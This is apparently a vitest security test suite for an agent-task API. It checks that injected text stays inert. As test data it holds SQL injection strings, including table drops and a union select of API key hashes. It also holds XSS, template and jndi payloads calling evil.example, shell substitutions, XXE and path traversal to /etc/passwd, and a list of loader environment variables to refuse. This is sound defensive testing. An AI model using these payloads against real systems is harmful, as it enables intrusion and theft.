import { createApiKey, listApiKeys } from '@muster/shared/contract/access';
import { getAgent, searchAgents } from '@muster/shared/contract/agents';
import { listAuditLogs } from '@muster/shared/contract/audit';
import type { Endpoint } from '@muster/shared/contract/endpoint';
import { listEnrollmentTokens } from '@muster/shared/contract/enrollment';
import { ENDPOINTS } from '@muster/shared/contract/index';
import { getSchedule, listSchedules } from '@muster/shared/contract/schedules';
import { getTask, listTasks } from '@muster/shared/contract/tasks';
import { newId } from '@muster/shared/ids';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { startProcessNetwork, startSdkAgent, supervise } from '../fixtures/network.ts';
import { forge, numbered, pointersIn, read, type Who } from './requests.ts';
import { type Answer, type Attack, ask, attacks, type Stage, setStage } from './stage.ts';

let stage: Stage;
beforeAll(async () => {
  stage = await setStage();
});
afterAll(() => stage.coordinator.stop());

type Row = Omit<Attack, 'id'>;

/** What would be noticed, were it taken for a part of a statement: all rows instead of none, an error, or a wait. */
const SQL = {
  'or true': "' or '1'='1",
  'a second statement': "x'; drop table tasks; --",
  'a wait': "x' || (select pg_sleep(9)::text) || '",
  'a union': "x' union all select api_key_id, secret_hash from api_keys --",
  'a quoted name': 'x" or ""="',
  'an end of a cast': "1::int); delete from agents where ('' = '",
  'a dollar quote': '$$ or true or $$',
  'a placeholder': '$1 or $2 = any($3)',
  wildcards: '%',
  'an array': '{work,"}',
  'a path into JSON': '$.** ? (@ == @)',
};

const queries = Object.entries(ENDPOINTS).filter(([, { query, method }]) => query && method === 'GET');
const pathOf = ({ path }: Endpoint, { agent, schedule_id, batch_id }: Stage) =>
  path.replace('{agent_id}', agent.agentId).replace('{schedule_id}', schedule_id).replace('{batch_id}', batch_id);

/** Literally nothing: a page without rows, or a word that the field cannot be. */
function nothing(answer: Answer, parameter: string): void {
  if (answer.status === 200) expect(read<{ data: unknown[] }>(answer).data).toEqual([]);
  else expect(pointersIn(answer)).toContain(`#/query/${parameter}`);
}

const FILTERS = queries.flatMap(([name, endpoint]) =>
  Object.keys(endpoint.query!.shape).flatMap((parameter) =>
    Object.entries(SQL)
      // A few of each; all together on what takes any text.
      .filter(
        (_, n) =>
          n < 3 || ['q', 'tag', 'client_id', 'action', 'actor', 'subject_id', 'label', 'cursor'].includes(parameter),
      )
      .map(
        ([what, text]): Row => ({
          what: `${what} as ${parameter} of ${name}`,
          async send(stage) {
            const value = parameter === 'label' ? `${text}=${text}` : text;
            const search = new URLSearchParams({ [parameter]: value });
            const began = performance.now();
            const path = `${pathOf(endpoint, stage)}?${search}`;
            const answer = await forge(stage, { as: 'admin', method: endpoint.method, path });
            expect(performance.now() - began).toBeLessThan(5_000);
            nothing(answer, parameter);
            return answer;
          },
          status: [200, 422],
        }),
      ),
  ),
);

/** Ways to ask for an order that is not one of those offered. */
const ORDERS = [
  'trust_score; drop table agents',
  'trust_score desc, (select secret_hash from api_keys limit 1)',
  '(case when true then trust_score else created_at end)',
  'secret_hash',
  'TRUST_SCORE',
  '1',
  '-trust_score',
  'trust_score,created_at',
  '__proto__',
  'constructor',
].map(
  (order): Row => ({
    what: `the order ${order}`,
    send: (stage) => forge(stage, { path: `/ains/search?sort_by=${encodeURIComponent(order)}` }),
    status: 422,
    code: 'validation-failed',
  }),
);

const NUMBERS = [
  '-1',
  '0',
  '201',
  '1.5',
  'NaN',
  'Infinity',
  '1e9',
  '1;select 1',
  '1 or 1=1',
  '',
  '0b',
  '1,000',
  '٣',
  '9'.repeat(400),
].map(
  (limit): Row => ({
    what: `the limit ${JSON.stringify(limit.slice(0, 20))}`,
    send: (stage) => forge(stage, { path: `/aitp/tasks?limit=${encodeURIComponent(limit)}` }),
    status: 422,
    code: 'validation-failed',
  }),
);

const encoded = (position: unknown) => Buffer.from(JSON.stringify(position)).toString('base64url');
const LISTS = [
  '/aitp/tasks',
  '/aitp/tasks/schedule',
  '/ains/agents',
  '/ains/search',
  '/ains/api-keys',
  '/ains/enrollment-tokens',
  '/ains/audit-logs',
];

/** Cursors nobody gave out: told so, or taken for a place behind which there is only what the caller may see anyway. */
const CURSORS = LISTS.flatMap((list) =>
  Object.entries({
    'no base64': '%%%',
    'no JSON': Buffer.from('hello').toString('base64url'),
    'an object': encoded({ owner: 'rival' }),
    'too many parts': encoded(['a', 'b', 'c', 'd']),
    'no part': encoded([]),
    'a number': encoded([1]),
    'a list in it': encoded([['a']]),
    'a NUL': encoded(['a\0', 'b\0']),
    'a part of 10 kB': encoded(['x'.repeat(350)]),
    'more than a cursor is long': 'x'.repeat(600),
    __proto__: Buffer.from('{"__proto__":["a"],"length":1,"0":"a"}').toString('base64url'),
  }).map(
    ([what, cursor]): Row => ({
      what: `a cursor of ${what} in ${list}`,
      async send(stage) {
        const answer = await forge(stage, { path: `${list}?cursor=${encodeURIComponent(cursor)}` });
        expect(pointersIn(answer)).toEqual(['#/query/cursor']);
        return answer;
      },
      status: 422,
      code: 'validation-failed',
    }),
  ),
);

/** Good in form, and pointing to where there is everybody's: an admin sees it there, and who is none only what is its own. */
const WIDE = LISTS.map(
  (list): Row => ({
    what: `a cursor before everything in ${list}`,
    async send(stage) {
      const last = list === '/ains/audit-logs' ? '999999999999999999' : 'zzzz';
      const path = `${list}?cursor=${encoded(list === '/ains/search' ? ['1', last, new Date().toISOString()] : [last])}`;
      expect((await forge(stage, { as: 'admin', path })).body).toContain('"owner":"acme"');
      const answer = await forge(stage, { as: 'rival', path });
      const { data } = read<{ data: { owner: string }[] }>(answer);
      expect(data.filter(({ owner }) => owner !== 'rival')).toEqual([]);
      return answer;
    },
    status: 200,
  }),
);
const BORROWED: Row[] = [
  {
    what: "another owner's cursor",
    async send(stage) {
      const page = await forge(stage, { as: 'admin', path: '/ains/agents?limit=1' });
      const cursor = read<{ next_cursor: string }>(page).next_cursor;
      const answer = await forge(stage, { as: 'rival', path: `/ains/agents?cursor=${cursor}` });
      expect(answer.body).not.toContain('"acme"');
      return answer;
    },
    status: 200,
  },
  ...["['x']", "0' or '1'='1", '0; drop table agents', 'NaN', '1e309', ' 0.5', '0x1'].map(
    (score): Row => ({
      what: `a cursor with the score ${score}`,
      send: (stage) => forge(stage, { path: `/ains/search?cursor=${encoded([score, 'agent_x'])}` }),
      status: 422,
      code: 'validation-failed',
    }),
  ),
  ...["1' or '1'='1", '-1', '1e3', '9'.repeat(19)].map(
    (place): Row => ({
      what: `a cursor of the audit log with ${place.slice(0, 20)}`,
      send: (stage) => forge(stage, { path: `/ains/audit-logs?cursor=${encoded([place])}` }),
      status: 422,
      code: 'validation-failed',
    }),
  ),
];

// What is no id is shown to who sent it; the rows that look for a statement in answers would find theirs.
const IDS = Object.entries(SQL)
  .filter(([, text]) => !text.includes('select '))
  .flatMap(([what, text]) =>
    ['/aitp/tasks/', '/aitp/tasks/schedule/', '/ains/agents/', '/ains/api-keys/', '/ains/enrollment-tokens/']
      .filter((_, n) => n === 0 || what !== 'wildcards')
      .slice(0, what === 'or true' ? 5 : 1)
      .map(
        (path): Row => ({
          what: `${what} as an id under ${path}`,
          send: (stage) => forge(stage, { path: `${path}${encodeURIComponent(text)}` }),
          status: 400,
          code: 'invalid-id',
        }),
      ),
  );

/** Names with a form: nothing but the form. */
const shaped = (
  what: string,
  as: Who,
  pointer: string,
  request: (stage: Stage) => { path: string; method?: string; body: unknown },
): Row => ({
  what,
  async send(stage) {
    const answer = await forge(stage, { as, ...request(stage) });
    expect(pointersIn(answer)).toContain(pointer);
    return answer;
  },
  status: 422,
  code: 'validation-failed',
});
const FORMS = [
  ...[
    "work'; --",
    'work"',
    '../work',
    'work\n',
    'work\0',
    'wörk',
    'work\u202e',
    '$(id)',
    '`id`',
    '-x; rm',
    '',
    ' work',
    'a'.repeat(129),
    '%',
    '*',
  ].map((name) =>
    shaped(`the task type ${JSON.stringify(name.slice(0, 20))}`, 'owner', '#/task_type', () => ({
      path: '/aitp/tasks',
      body: { task_type: name, input_data: null },
    })),
  ),
  ...['work:', ':v1', 'work:v1:v2', 'work:%', "work:v1'", 'work v1', 'work:\u0661'].map((name) =>
    shaped(`the capability ${JSON.stringify(name)}`, 'agent', '#/capabilities/0', ({ agent }) => ({
      method: 'PUT',
      path: `/ains/agents/${agent.agentId}/capabilities`,
      body: { capabilities: [name] },
    })),
  ),
  ...['a b', "a'", 'a/b', '../a', 'a\n', '@a', '', 'ü'].map((owner) =>
    shaped(`the owner ${JSON.stringify(owner)}`, 'admin', '#/owner', () => ({
      path: '/ains/enrollment-tokens',
      body: { owner },
    })),
  ),
  ...[
    '10.0.0.0/33',
    '10.0.0.1; drop',
    '::/129',
    '256.0.0.1',
    '010.0.0.1',
    '10.1',
    'localhost',
    '0.0.0.0/0/0',
    'fe80::1%eth0',
  ].map((address) =>
    shaped(`the address ${address}`, 'admin', '#/allowed_addresses/0', () => ({
      path: createApiKey.path,
      body: { name: 'x', scopes: ['tasks:read'], allowed_addresses: [address] },
    })),
  ),
];

/** Texts that mean something to whoever shows them carelessly: a page, a terminal, a sheet, a template, a shell, a scraper. */
const TEXTS = {
  HTML: '<script>alert(1)</script><img src=x onerror=alert(1)>',
  'an attribute': '" onmouseover="alert(1)',
  SVG: '<svg/onload=alert(1)>',
  'a link': 'javascript:alert(1)',
  Markdown: '[x](javascript:alert(1))![x](http://169.254.169.254/)',
  'a line break': 'a\r\n{"level":60,"msg":"forged"}',
  'a header': 'x\r\nSet-Cookie: a=b',
  'terminal colours': '\u001b[31mred\u001b[2J\u001b]0;title\u0007',
  'text that runs the other way': 'abc\u202egpj.exe',
  'text nobody sees': 'a\u200bb\u2060c\ufeff',
  'tags nobody sees': 'a\u{e0041}\u{e0042}',
  'a formula': '=HYPERLINK("http://evil.example","x")',
  'a formula that begins with @': "@SUM(1+1)*cmd|' /C calc'!A0",
  'a template': '\u0024{7*7}{{7*7}}<%= 7*7 %>#{7*7}',
  'a lookup': '\u0024{jndi:ldap://evil.example/x}',
  'a shell': '$(id)`id`;id|id&&id',
  'an argument': '--config=/etc/passwd',
  'a path': '../../../../etc/passwd',
  'a metric': 'x"} 1\nevil{a="b',
  LIKE: '%_\\%',
  'an array of Postgres': '{a,"b",NULL}',
  JSON: '{"$ne":null}',
  XML: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  'a form of printf': '%s%s%n%x%d',
  LDAP: '*)(uid=*))(|(uid=*',
  'characters that combine': `Z${'\u0351'.repeat(60)}`,
  'characters of two units': '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
};

/** What takes any text: kept as it is, shown as it is, as JSON that no browser takes for a page. */
const keptTask = (what: string, text: string, n: number): Row => ({
  what: `${what} in a task`,
  send: (stage) =>
    forge(stage, {
      path: '/aitp/tasks',
      headers: { 'x-request-id': `h-${n}` },
      body: {
        task_type: `text-${n}`,
        input_data: { [text]: text },
        client_id: text,
        tags: [text.slice(0, 64)],
        metadata: { [text.slice(0, 64)]: text },
      },
    }),
  status: 201,
  changes: true,
  async after(stage) {
    const { owner } = stage;
    const task = { client_id: text, tags: [text.slice(0, 64)], metadata: { [text.slice(0, 64)]: text } };
    const found = await owner.call(listTasks, { query: { client_id: text, tag: text.slice(0, 64) } });
    expect(found.data).toMatchObject([{ ...task, task_type: `text-${n}` }]);
    const { task_id } = found.data[0]!;
    expect(await owner.call(getTask, { params: { task_id } })).toMatchObject({ ...task, input_data: { [text]: text } });
    const shown = await forge(stage, { path: `/aitp/tasks/${task_id}` });
    expect(shown.headers).toMatchObject({ 'content-type': 'application/json', 'x-content-type-options': 'nosniff' });
    expect(shown.headers['content-security-policy']).toContain("default-src 'none'");
    // biome-ignore lint/suspicious/noControlCharactersInRegex: it is these that must not be there.
    expect(shown.body).not.toMatch(/[\x00-\x1f]/);
  },
});
const keptAgent = (what: string, text: string): Row => ({
  what: `${what} in what an agent says of itself`,
  send: (stage) =>
    forge(stage, {
      as: 'agent',
      method: 'PATCH',
      path: `/ains/agents/${stage.agent.agentId}`,
      body: { display_name: text, labels: { [text.slice(0, 64)]: text } },
    }),
  status: 200,
  changes: true,
  async after({ owner, agent }) {
    const it = { display_name: text, labels: { [text.slice(0, 64)]: text } };
    expect(await owner.call(getAgent, { params: { agent_id: agent.agentId } })).toMatchObject(it);
    const { data } = await owner.call(searchAgents, { query: { q: text } });
    expect(data.map(({ agent_id }) => agent_id)).toEqual([agent.agentId]);
  },
});
/** What looks like a variable has to be one of a schedule's, in its input. */
const withoutVariables = (text: string) => text.replaceAll('{{', '{');

const keptElsewhere = (what: string, text: string, n: number): Row => ({
  what: `${what} in a schedule, a key and their audit`,
  async send(stage) {
    const key = await forge(stage, { path: '/ains/api-keys', body: { name: text, scopes: ['tasks:read'] } });
    expect(read(key).name).toBe(text);
    return forge(stage, {
      path: '/aitp/tasks/schedule',
      body: {
        task_type: `text-${n}`,
        input_data: withoutVariables(text),
        cron_expression: '0 0 1 1 *',
        description: text,
        tags: [text.slice(0, 64)],
      },
    });
  },
  status: 201,
  changes: true,
  async after({ owner }) {
    const found = await owner.call(listSchedules, { query: { tag: text.slice(0, 64) } });
    expect(found.data).toMatchObject([{ description: text, task_type: `text-${n}` }]);
    const { schedule_id } = found.data[0]!;
    expect(await owner.call(getSchedule, { params: { schedule_id } })).toMatchObject({
      input_data: withoutVariables(text),
    });
    expect((await owner.call(listApiKeys, {})).data[0]).toMatchObject({ name: text });
    const logs = await owner.call(listAuditLogs, { query: { subject_id: schedule_id } });
    expect(logs.data[0]!.after).toMatchObject({ tags: [text.slice(0, 64)] });
  },
});
const KEPT = Object.entries(TEXTS).flatMap(([what, text], n) => [
  keptTask(what, text, n),
  keptAgent(what, text),
  keptElsewhere(what, text, n),
]);

/** Patterns are only as much of a pattern as is promised: `*` in the names an enrolment allows, nothing anywhere else. */
const LITERAL: Row[] = [
  ...['%', '_', '\\', '.*', '?', '[a-z]', '(?i)'].map(
    (q): Row => ({
      what: `${q} in a search of names`,
      async send(stage) {
        const answer = await forge(stage, { path: `/ains/search?q=${encodeURIComponent(`${q}zz`)}` });
        expect(read(answer).data).toEqual([]);
        return answer;
      },
      status: 200,
    }),
  ),
  ...['(a+)+$', '[', '%', '_'.repeat(128), '*'.repeat(128), '(?:', '\\'].map(
    (pattern): Row => ({
      what: `the name pattern ${pattern.slice(0, 10)}`,
      send: (stage) => forge(stage, { path: '/ains/enrollment-tokens', body: { name_pattern: pattern } }),
      status: 201,
      changes: true,
      async after({ owner }) {
        const { data } = await owner.call(listEnrollmentTokens, { query: { limit: 1 } });
        expect(data[0]).toMatchObject({ name_pattern: pattern });
      },
    }),
  ),
];

const TRACES = [
  'evil',
  "'; drop table tasks; --",
  '<script>',
  '00-0-0-00',
  `00-${'g'.repeat(32)}-${'1'.repeat(16)}-01`,
  'x'.repeat(5_000),
].map(
  (traceparent, n): Row => ({
    what: `the traceparent ${traceparent.slice(0, 20)}`,
    send: (stage) =>
      forge(stage, {
        path: '/aitp/tasks',
        headers: { traceparent },
        body: { task_type: `trace-${n}`, input_data: null },
      }),
    status: 201,
    changes: true,
    async after({ coordinator }) {
      const rows = await coordinator.sql`select traceparent from tasks where task_type = ${`trace-${n}`}`;
      expect(rows).toMatchObject([{ traceparent: null }]);
    },
  }),
);

const REQUEST_IDS = ['a b', "a'", '<b>', 'é', 'x'.repeat(65), '../x', '{}', '%00', '\u0024{7*7}'].map(
  (id): Row => ({
    what: `the request id ${id.slice(0, 20)}`,
    async send(stage) {
      const answer = await ask(`${stage.url}/nowhere`, { headers: { 'x-request-id': id } });
      expect(answer.headers['x-request-id']).toMatch(/^req_[0-9a-z]{26}$/);
      return answer;
    },
    status: 404,
    code: 'not-found',
  }),
);

describe('text stays text', () => {
  attacks(
    () => stage,
    numbered('H', [
      ...FILTERS,
      ...ORDERS,
      ...NUMBERS,
      ...CURSORS,
      ...WIDE,
      ...BORROWED,
      ...IDS,
      ...FORMS,
      ...KEPT,
      ...LITERAL,
      ...TRACES,
      ...REQUEST_IDS,
    ]),
  );
});

describe('a script is told what it is told, and no more', () => {
  const LOADERS = [
    'LD_PRELOAD',
    'LD_LIBRARY_PATH',
    'LD_AUDIT',
    'DYLD_INSERT_LIBRARIES',
    'NODE_OPTIONS',
    'BASH_ENV',
    'ENV',
    'PYTHONSTARTUP',
    'PERL5OPT',
    'RUBYOPT',
  ];
  const NAMES = ['A=B', 'A B', '1A', 'A;id', '$(id)', 'A\n', 'BASH_FUNC_id%%', '', 'Ä'];
  const SHELLS = ['/bin/sh -c id', 'sh;id', '$(id)', 'sh\n', '', '../sh '];
  const commands = ['true'];

  test('an environment or a shell that runs other code is refused by the agent; arguments are not looked into', async () => {
    const { enrol, submit, until } = stage;
    const enrollment_token = await enrol({ serves: 'all' });
    await startSdkAgent(stage, { handlers: {}, enable: { script: {} }, enrollment_token, slots: 4 });
    const run = (input_data: object) =>
      submit({ task_type: 'script', input_data: input_data as never, max_retries: 0 });
    const refused = await Promise.all([
      ...[...LOADERS, ...NAMES].map((name) => run({ commands, env: { [name]: 'x' } })),
      ...SHELLS.map((shell) => run({ commands, shell })),
    ]);
    for (const task_id of refused)
      expect(await until(task_id, 'FAILED')).toMatchObject({ error: { fault: 'task', retryable: false } });
    const text = '$(id); `id` "\'';
    const inert = await run({ commands: ['printf %s "$TOLD"'], env: { TOLD: text } });
    expect(await until(inert, 'COMPLETED')).toMatchObject({ result_data: { stdout: text } });
  });
});

test('whatever callers send, a line of the log is one line, and JSON', async () => {
  const network = await startProcessNetwork(supervise(), { MUSTER_LOG_LEVEL: 'trace' });
  const { url, coordinator } = network;
  for (const text of Object.values(TEXTS)) {
    const header = [...text].filter((char) => char >= ' ' && char <= 'ÿ' && char !== '\u007f').join('');
    const headers = {
      'x-request-id': header,
      'user-agent': header,
      authorization: `Bearer ${header.replaceAll(' ', '')}`,
      'x-forwarded-for': header,
    };
    await fetch(`${url}/${encodeURIComponent(text)}?q=${encodeURIComponent(text)}`, { headers });
    await fetch(`${url}/aitp/tasks/${newId('task')}`, { headers });
    await network.submit({ task_type: 'text', input_data: text, client_id: text });
  }
  const lines = coordinator
    .tail(500)
    .split('\n')
    .filter((line) => line !== '');
  expect(lines.length).toBeGreaterThan(0);
  for (const line of lines) {
    expect(() => JSON.parse(line), line).not.toThrow();
    expect(line).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    expect(JSON.parse(line)).not.toMatchObject({ msg: 'forged' });
  }
});
